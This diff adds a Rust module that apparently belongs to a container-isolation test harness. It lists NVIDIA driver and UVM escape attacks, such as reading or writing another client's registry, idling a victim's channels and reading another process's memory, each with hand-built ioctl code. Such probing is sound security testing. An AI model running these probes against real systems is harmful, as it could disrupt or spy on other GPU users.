@@ -1,0 +1,296 @@
+// SPDX-License-Identifier: GPL-2.0
+//! Escapes that containers have no use for (nvidia-protocol 6.3), and UVM's tools.
+
+use super::clients::disable;
+use super::scene::{escape, Attacker, MIB, OWN};
+use super::{attack, told, Attack, Driver, Sign, Told};
+use crate::bytes::{put_u32, put_u64, u32_at};
+use crate::guest::rm;
+use crate::sys;
+
+pub(super) const ATTACKS: &[Attack] = &[
+    attack(
+        "the driver's settings read through another's client (ACCESS_REGISTRY)",
+        "osapi.c:RmAccessRegistry",
+        Driver::Passes,
+        Sign::Gpu,
+        |a| registry(a, 1),
+    ),
+    attack(
+        "the driver's settings written (ACCESS_REGISTRY)",
+        "os.c:osWriteRegistryDword",
+        Driver::Refuses,
+        Sign::Gpu,
+        |a| registry(a, 2),
+    ),
+    attack(
+        "another's channels idled (NV_ESC_RM_IDLE_CHANNELS)",
+        "rmapi_deprecated_misc.c:RmDeprecatedIdleChannels",
+        Driver::Refuses,
+        Sign::Victim,
+        idle,
+    ),
+    attack(
+        "a control in an envelope (IOCTL_XFER_CMD)",
+        "nv.c:nvidia_ioctl",
+        Driver::Passes,
+        Sign::Victim,
+        envelope,
+    ),
+    attack(
+        "an object by the oldest way (NV_ESC_RM_ALLOC_OBJECT)",
+        "entry_points.c:Nv01AllocObjectWithSecInfo",
+        Driver::Passes,
+        Sign::Told,
+        alloc_object,
+    ),
+    attack(
+        "the heap's state by the older way (VID_HEAP_CONTROL)",
+        "rmapi_deprecated_vidheapctrl.c:_nvos32FunctionInfo",
+        Driver::Passes,
+        Sign::Told,
+        heap_info,
+    ),
+    attack(
+        "doorbells mapped for the GPU (RM_MAP_MEMORY_DMA)",
+        "usermode_api.c:usrmodeGetMemInterMapParams_IMPL",
+        Driver::Passes,
+        Sign::Told,
+        map_doorbell,
+    ),
+    attack(
+        "device registers as host memory (class 0x71, uncached)",
+        "osmemdesc.c:osCreateOsDescriptorFromIoMemory",
+        Driver::NotModelled,
+        Sign::Told,
+        io_memory,
+    ),
+    attack(
+        "the interrupt register (QUERY_DEVICE_INTR)",
+        "nv.c:nvidia_ioctl",
+        Driver::Passes,
+        Sign::Gpu,
+        |a| told(escape(a.client.gpu, 213, &mut [0; 8], 4)),
+    ),
+    attack(
+        "the state of any adapter (STATUS_CODE)",
+        "osapi.c:rm_get_adapter_status",
+        Driver::Passes,
+        Sign::Told,
+        adapter,
+    ),
+    attack(
+        "the driver's log (LOCKLESS_DIAGNOSTIC)",
+        "escape.c:RmIoctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| a.escape(0x5f, &mut [0; 64], 0),
+    ),
+    attack(
+        "video memory onlined for the host (SET_NUMA_STATUS)",
+        "nv.c:nvidia_ioctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| told(escape(a.client.gpu, 216, &mut [0; 4], 0)),
+    ),
+    attack(
+        "the I2C busses (NV_ESC_RM_I2C_ACCESS)",
+        "rmapi_deprecated_misc.c:RmDeprecatedI2CAccess",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| told(escape(a.client.gpu, 0x39, &mut [0; 32], 24)),
+    ),
+    attack(
+        "an event's data (NV_ESC_RM_GET_EVENT_DATA)",
+        "escape.c:RmIoctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| a.escape(0x52, &mut [0; 24], 16),
+    ),
+    attack(
+        "a context for DMA (NV_ESC_RM_ALLOC_CONTEXT_DMA2)",
+        "escape.c:RmIoctl",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| a.escape(0x54, &mut [0; 56], 48),
+    ),
+    attack(
+        "a callback at the screen's refresh (NV_ESC_RM_ADD_VBLANK_CALLBACK)",
+        "escape.c:RmIoctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| a.escape(0x56, &mut [0; 40], 32),
+    ),
+    attack(
+        "a context for DMA bound (NV_ESC_RM_BIND_CONTEXT_DMA)",
+        "escape.c:RmIoctl",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| a.escape(0x59, &mut [0; 16], 12),
+    ),
+    attack(
+        "an object behind a descriptor by the older way (NV_ESC_RM_EXPORT_OBJECT_TO_FD)",
+        "escape.c:RmIoctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| a.escape(0x5c, &mut [0; 24], 20),
+    ),
+    attack(
+        "an object from a descriptor by the older way (NV_ESC_RM_IMPORT_OBJECT_FROM_FD)",
+        "escape.c:RmIoctl",
+        Driver::Refuses,
+        Sign::Told,
+        |a| a.escape(0x5d, &mut [0; 24], 20),
+    ),
+    attack(
+        "a file that is none of the driver's (REGISTER_FD)",
+        "nv.c:nv_get_file_private",
+        Driver::Refuses,
+        Sign::Told,
+        register_null,
+    ),
+    attack(
+        "another process's memory read (UVM_TOOLS_READ_PROCESS_MEMORY)",
+        "uvm_tools.c:uvm_api_tools_read_process_memory",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| uvm_request(a, 62, 32),
+    ),
+    attack(
+        "events of another's address space (UVM_TOOLS_INIT_EVENT_TRACKER)",
+        "uvm_tools.c:uvm_api_tools_init_event_tracker",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| uvm_request(a, 56, 48),
+    ),
+    attack(
+        "what others left (UVM_CLEAN_UP_ZOMBIE_RESOURCES)",
+        "uvm_va_range.c:uvm_api_clean_up_zombie_resources",
+        Driver::NotModelled,
+        Sign::Told,
+        |a| uvm_request(a, 69, 0),
+    ),
+];
+
+/// NVOS38 on the victim's client; 1 reads, 2 writes.
+fn registry(a: &Attacker, access: u32) -> Told {
+    let mut outer = [0; 72];
+    put_u32(&mut outer, 0, a.victim.client);
+    put_u32(&mut outer, 4, a.victim.client);
+    put_u32(&mut outer, 8, access);
+    a.escape(0x4d, &mut outer, 64)
+}
+
+fn idle(a: &Attacker) -> Told {
+    let (clients, channels) = ([a.victim.client], [super::scene::victims::CHANNEL]);
+    let mut outer = [0; 56];
+    put_u32(&mut outer, 0, a.client.handle);
+    put_u32(&mut outer, 12, 1);
+    put_u64(&mut outer, 16, clients.as_ptr() as u64);
+    put_u64(&mut outer, 24, [rm::DEVICE_HANDLE].as_ptr() as u64);
+    put_u64(&mut outer, 32, channels.as_ptr() as u64);
+    a.escape(0x41, &mut outer, 48)
+}
+
+/// FIFO_DISABLE_CHANNELS, which switches the victim's channel on or off: other than it is on the driver
+/// after the attack of that name.
+fn envelope(a: &Attacker) -> Told {
+    let mut params = disable(a.victim.client, false);
+    let mut outer = [0; 32];
+    put_u32(&mut outer, 0, a.client.handle);
+    put_u32(&mut outer, 4, rm::SUBDEVICE_HANDLE);
+    put_u32(&mut outer, 8, 0x2080_110b);
+    put_u64(&mut outer, 16, params.as_mut_ptr() as u64);
+    put_u32(&mut outer, 24, 536);
+    rm::xfer(a.client.ctl, 0x2a, &mut outer).map_err(|e| format!("errno {e}"))?;
+    match u32_at(&outer, 28) {
+        0 => Ok(()),
+        status => Err(format!("status {status:#x}")),
+    }
+}
+
+fn alloc_object(a: &Attacker) -> Told {
+    let mut outer = [0; 20];
+    for (at, value) in [
+        (0, a.client.handle),
+        (4, rm::SUBDEVICE_HANDLE),
+        (8, OWN),
+        (12, 0x208f),
+    ] {
+        put_u32(&mut outer, at, value);
+    }
+    a.escape(0x28, &mut outer, 16)
+}
+
+fn heap_info(a: &Attacker) -> Told {
+    let mut outer = [0; 184];
+    put_u32(&mut outer, 0, a.client.handle);
+    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
+    put_u32(&mut outer, 8, 5);
+    a.escape(0x4a, &mut outer, 20)
+}
+
+fn map_doorbell(a: &Attacker) -> Told {
+    told(
+        a.client
+            .alloc(rm::SUBDEVICE_HANDLE, OWN, rm::USERMODE, &mut [1, 0]),
+    )?;
+    told(
+        a.client
+            .alloc(rm::DEVICE_HANDLE, OWN + 1, 0x90f1, &mut [0; 56]),
+    )?;
+    let mut outer = [0; 64];
+    for (at, value) in [
+        (0, a.client.handle),
+        (4, rm::DEVICE_HANDLE),
+        (8, OWN + 1),
+        (12, OWN),
+    ] {
+        put_u32(&mut outer, at, value);
+    }
+    put_u64(&mut outer, 24, 0x1_0000);
+    a.escape(0x57, &mut outer, 56)
+}
+
+fn io_memory(a: &Attacker) -> Told {
+    let mut outer = [0; 56];
+    put_u32(&mut outer, 0, a.client.handle);
+    put_u32(&mut outer, 4, rm::DEVICE_HANDLE);
+    put_u32(&mut outer, 8, OWN);
+    put_u32(&mut outer, 12, 0x71);
+    // Contiguous and uncached: what the driver takes for registers.
+    put_u32(&mut outer, 16, 0x4000_0000);
+    put_u64(&mut outer, 32, MIB - 1);
+    told(escape(a.client.gpu, 0x27, &mut outer, 40))
+}
+
+fn adapter(a: &Attacker) -> Told {
+    let mut outer = [0; 12];
+    (outer[4], outer[5]) = a.victim.gpus.pci;
+    a.escape(209, &mut outer, 8)
+}
+
+fn register_null(a: &Attacker) -> Told {
+    let path = format!("{}/nvidia{}", a.folder, super::scene::GPU);
+    let flags = libc::O_RDWR | libc::O_CLOEXEC;
+    let gpu = sys::open(&path, flags).map_err(|e| format!("errno {e}"))?;
+    let null = sys::open("/dev/null", flags).map_err(|e| format!("errno {e}"))?;
+    let mut outer = u32::try_from(null).unwrap_or(0).to_le_bytes();
+    let request = 3 << 30 | 4 << 16 | crate::layout::NV_TYPE << 8 | 201;
+    let registered = sys::ioctl(gpu, request, &mut outer);
+    registered.map(drop).map_err(|e| format!("errno {e}"))
+}
+
+/// A request of UVM's with zeros, on an address space of the attacker's own; the status is at `at`.
+fn uvm_request(a: &Attacker, cmd: u32, at: usize) -> Told {
+    let path = format!("{}/nvidia-uvm", a.folder);
+    let fd = sys::open(&path, libc::O_RDWR | libc::O_CLOEXEC).map_err(|e| format!("errno {e}"))?;
+    let failed = |e: i32| format!("errno {e}");
+    sys::ioctl(fd, crate::layout::UVM_INITIALIZE, &mut [0; 16]).map_err(failed)?;
+    let mut params = [0; 64];
+    sys::ioctl(fd, cmd, &mut params).map_err(failed)?;
+    match u32_at(&params, at) {
+        0 => Ok(()),
+        status => Err(format!("status {status:#x}")),
+    }
+}
